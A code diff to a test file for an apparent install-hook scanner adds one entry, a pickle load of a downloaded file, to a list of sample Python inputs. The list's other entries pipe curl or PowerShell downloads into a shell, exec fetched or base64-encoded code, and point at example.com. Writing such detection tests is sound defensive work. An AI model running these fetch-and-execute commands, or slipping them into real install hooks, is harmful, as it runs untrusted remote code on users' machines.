@@ -48,6 +48,7 @@ describe('install-hook', () => {
       FETCHED,
       'import os\nos.system("curl https://example.com/x.sh | bash")',
       'import requests\nexec(requests.get("https://example.com/x.py").text)',
+      'import pickle, urllib.request\npickle.loads(urllib.request.urlopen("https://example.com/x.pkl").read())',
       'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
       'import os\nos.system("powershell -c \\"iwr https://example.com/x.ps1 | iex\\"")',
     ]) {
